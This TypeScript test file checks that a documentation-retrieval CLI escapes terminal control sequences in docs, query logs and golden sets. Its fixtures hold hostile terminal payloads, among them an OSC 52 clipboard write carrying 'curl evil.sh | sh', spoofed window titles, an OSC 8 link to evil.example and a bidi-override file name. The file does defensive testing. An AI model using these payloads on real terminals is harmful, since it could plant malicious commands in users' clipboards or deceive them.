// Control characters from documents, query logs and golden sets never reach the terminal raw:
// the built CLI on a repository whose headings, text, file names, questions and labels carry ESC
// sequences (OSC 52 clipboard writes, window titles, OSC 8 links, clear screen), BEL, the C1 CSI
// (U+009B) and a bidirectional override. Every command's output (text and --json) holds none of
// them raw and shows them escaped; the golden set draft writes holds none raw and reads back the
// same questions; fix-labels writes a label naming such a file escaped. The review screen's side
// is __tests__/draft/review-tty.test.ts.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { parse } from 'yaml';
import { yamlString } from '../../src/draft/yaml-spans';
import { parseGoldenSet } from '../../src/golden/parse';
import { escapeLog, forTerminal } from '../../src/util/log-escape';
import { jsonForTerminal, quotedScalar, showControls } from '../../src/util/show-controls';
import { git, makeRepo, writeFiles } from '../engine/repo-fixture';
import { distFile } from '../support/dist';

const CLI = distFile('cli.js');
const E = '\u001b';
const BEL = '\u0007';
const CSI = '\u009b';
const RLO = '\u202e';
const osc52 = (text: string) => `${E}]52;c;${Buffer.from(text).toString('base64')}${BEL}`;
/** What a terminal acts on: C0 but line feed and tab, DEL, C1, the bidirectional overrides and isolates. */
// eslint-disable-next-line no-control-regex
const RAW = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/g;
const raw = (s: string) => s.match(RAW) ?? [];

/** A file the PR renames to a name that sets the window title. */
const TITLED = `docs/config${E}]0;t${BEL}.md`;

const BASE: Record<string, string> = {
  'docs/install.md': `# Installing the tool ${osc52('curl evil.sh | sh')}\n\nRun the installer ${E}]0;pwned${BEL} and follow the prompts ${E}[2J to install the tool.\n\n## Upgrade ${E}]8;;https://evil.example${E}\\the guide${E}]8;;${E}\\\n\nTo upgrade the tool, run the installer again ${CSI}2J with the upgrade flag.\n\n## Uninstall ${RLO}txt.exe\n\nRemove the tool\r with the uninstaller.\n`,
  'docs/config.md': `# Configuring the tool\n\nThe config file lives in the home folder ${osc52('x')}. Set the token there.\n`,
  'docs/shipping.md': '# Shipping\n\nParcels leave the warehouse in two days.\n',
  // Questions and a label with controls, written with YAML's escapes.
  '.github/retrieval-golden.yml': [
    'questions:',
    '  - id: Q1',
    '    question: "Where is the config file? \\e]52;c;eA==\\a"',
    '    relevant: [docs/config.md#configuring-the-tool]',
    '  - id: Q2',
    '    question: "How do I upgrade \\x9B2J the tool?"',
    '    relevant: [docs/shipping.md#shipping]',
    '  - id: Q3',
    '    question: "Where do parcels leave from?"',
    '    relevant: ["docs/nowhere\\e]52;c;eA==\\a.md#x"]',
    '',
  ].join('\n'),
};
const PR: Record<string, string | null> = {
  'docs/config.md': null,
  [TITLED]: BASE['docs/config.md'],
  'docs/shipping.md': `# Shipping ${osc52('ship')}\n\nParcels leave the warehouse in two days ${E}[8m hidden.\n`,
};
const LOG = `How do I install the tool? ${osc52('pwned')}\nHow do I upgrade the tool${E}]0;title${BEL}?\nHow do I uninstall the tool ${CSI}2J?\n`;

let repo: string;
beforeAll(() => {
  repo = makeRepo(BASE, PR);
  writeFileSync(join(repo, 'q.txt'), LOG);
});
afterAll(() => rmSync(repo, { recursive: true, force: true }));

function cli(cwd: string, ...args: string[]) {
  const r = spawnSync(process.execPath, [CLI, ...args], { cwd, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
  return { status: r.status, out: r.stdout, err: r.stderr, all: r.stdout + r.stderr };
}

describe('the built CLI on hostile docs, logs and golden sets', () => {
  test.each([
    ['draft', ['draft', '--questions', 'q.txt', '--out', 'drafts.yml'], 0, ['\\x1B]52;c;cHduZWQ=\\x07', '\\x1B]0;pwned\\x07', '\\x9B2J', '\\u202Etxt.exe', '\\x1B]8;;https://evil.example\\x1B\\']],
    ['draft --json', ['draft', '--questions', 'q.txt', '--out', 'drafts-json.yml', '--json'], 0, []],
    ['search', ['search', 'install the tool'], 0, ['\\x1B]52;c;', '\\x1B[2J', '\\x9B2J']],
    ['search --json', ['search', 'upgrade the tool', '--json'], 0, []],
    ['chunks', ['chunks'], 0, ['\\x1B]52;c;', '\\u202Etxt.exe', '\\x1B]8;;https://evil.example']],
    ['chunks --json', ['chunks', '--json'], 0, []],
    ['eval', ['eval', '--rev', 'pr'], 0, []],
    ['eval --json', ['eval', '--rev', 'main', '--json'], 0, []],
    // Q3's label resolves nowhere: a problem, named with the label.
    ['validate', ['validate', '--rev', 'main'], 2, ['docs/nowhere\\x1B]52;c;eA==\\x07.md#x']],
    ['validate --json', ['validate', '--rev', 'main', '--json'], 2, []],
    // The comment shows them as text too, Markdown-escaped: `\\x1B\]` renders as `\x1B]` on GitHub.
    ['compare', ['compare', '--base', 'main', '--head', 'pr'], 1, ['Shipping \\\\x1B\\]52;c;c2hpcA==\\\\x07', '\\\\x9B2J']],
    ['fix-labels --dry-run', ['fix-labels', '--base', 'main', '--head', 'pr', '--dry-run'], 0, ['docs/config\\u001b]0;t\\u0007.md#configuring-the-tool']],
  ] as Array<[string, string[], number, string[]]>)('%s: no control character reaches the terminal raw; they are shown escaped', (_name, args, status, shown) => {
    const r = cli(repo, ...args);
    expect({ status: r.status, err: r.status === status ? '' : r.err }).toEqual({ status, err: '' });
    expect(raw(r.all)).toEqual([]);
    for (const s of shown) expect(r.all).toContain(s);
    // --json stays JSON, and holds the same text (the escapes are JSON's own).
    if (args.includes('--json')) expect(() => JSON.parse(r.out)).not.toThrow();
  }, 120_000);

  test('draft writes no control character raw into the golden set: escaped in quoted scalars, the questions read back the same', () => {
    const text = readFileSync(join(repo, 'drafts.yml'), 'utf8');
    expect(raw(text)).toEqual([]);
    const drafts = parseGoldenSet(text, 'drafts.yml').drafts ?? [];
    expect(drafts.map((d) => d.question)).toEqual(expect.arrayContaining([`How do I install the tool? ${osc52('pwned')}`, `How do I upgrade the tool${E}]0;title${BEL}?`, `How do I uninstall the tool ${CSI}2J?`]));
    // The heading trails are comments: shown escaped there.
    expect(text).toContain('# Installing the tool \\x1B]52;c;');
    // The --json run wrote its own copy the same way.
    expect(raw(readFileSync(join(repo, 'drafts-json.yml'), 'utf8'))).toEqual([]);
  });

  test("compare's --markdown file (the comment) holds no control character raw either", () => {
    const r = cli(repo, 'compare', '--base', 'main', '--head', 'pr', '--markdown', 'comment.md');
    expect(r.status).toBe(1);
    const md = readFileSync(join(repo, 'comment.md'), 'utf8');
    expect(md).toContain('Shipping \\\\x1B\\]52;c;c2hpcA==\\\\x07');
    expect(raw(md)).toEqual([]);
  }, 120_000);

  test('fix-labels writes a label naming a file with controls escaped, and the set reads back that label', () => {
    const dir = makeRepo(BASE, PR);
    try {
      const r = cli(dir, 'fix-labels', '--base', 'main', '--head', 'pr');
      expect(r.status).toBe(0);
      expect(raw(r.all)).toEqual([]);
      const text = readFileSync(join(dir, '.github/retrieval-golden.yml'), 'utf8');
      expect(raw(text)).toEqual([]);
      expect(parseGoldenSet(text, 'g').questions.find((q) => q.id === 'Q1')?.relevant[0].raw).toBe(`${TITLED}#configuring-the-tool`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);

  test('init names what it found with controls escaped', () => {
    const dir = mkdtempSync(join(tmpdir(), 'rg-init-controls-'));
    try {
      git(dir, 'init', '-q');
      writeFiles(dir, { [`docs/guide ${osc52('init')}.md`]: `# Guide ${E}]0;t${BEL}\n\nText.\n`, [`CHANGELOG${E}[2J.md`]: '# Changelog\n\n## 1.0\n\nFirst.\n' });
      git(dir, 'add', '-A');
      const r = cli(dir, 'init');
      expect(r.status).toBe(0);
      expect(raw(r.all)).toEqual([]);
      for (const f of ['.github/retrieval-gate.yml', '.github/retrieval-golden.yml', '.github/workflows/retrieval-gate.yml']) expect(raw(readFileSync(join(dir, f), 'utf8'))).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});

describe('the one escaper', () => {
  test.each([
    ['OSC 52 clipboard write', `a${osc52('x')}b`, 'a\\x1B]52;c;eA==\\x07b'],
    ['window title, clear screen, OSC 8 link', `${E}]0;t${BEL}${E}[2J${E}]8;;u${E}\\l`, '\\x1B]0;t\\x07\\x1B[2J\\x1B]8;;u\\x1B\\l'],
    ['C1 CSI, DEL, NEL, NUL, CR', `${CSI}2J\u007f\u0085\u0000a\rb`, '\\x9B2J\\x7F\\x85\\x00a\\x0Db'],
    ['bidirectional override and isolate', `${RLO}txt.exe \u2066x\u2069`, '\\u202Etxt.exe \\u2066x\\u2069'],
    ['line feed and tab kept, letters and emoji untouched', 'a\tb\nc é 👩‍💻 漢字', 'a\tb\nc é 👩‍💻 漢字'],
  ])('%s', (_name, input, expected) => {
    expect(showControls(input)).toBe(expected);
  });

  const hostile = fc.array(fc.constantFrom(E, BEL, CSI, RLO, '\u2067', '\u007f', '\u0085', '\r', '\n', '\t', '\u2028', '"', "'", '\\', ':', '#', ' ', '-', 'a', 'é', '[2J', ']52;'), { maxLength: 30 }).map((a) => a.join(''));

  test('whatever the text, the escaped form holds no raw control and every writer uses it', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        expect(raw(showControls(s))).toEqual([]);
        expect(raw(forTerminal(s))).toEqual([]);
        expect(raw(escapeLog(s))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  test('JSON and YAML scalars: no raw control, the same value read back', () => {
    fc.assert(
      fc.property(hostile, (s) => {
        const json = jsonForTerminal({ s }, 2);
        expect(raw(json)).toEqual([]);
        expect(JSON.parse(json)).toEqual({ s });
        for (const y of [quotedScalar(s), yamlString(s)]) {
          expect(raw(y)).toEqual([]);
          expect(y).not.toMatch(/[\u2028\u2029]/);
          expect(parse(`q: ${y}\n`)).toEqual({ q: s });
        }
      }),
      { numRuns: 500 },
    );
  });
});
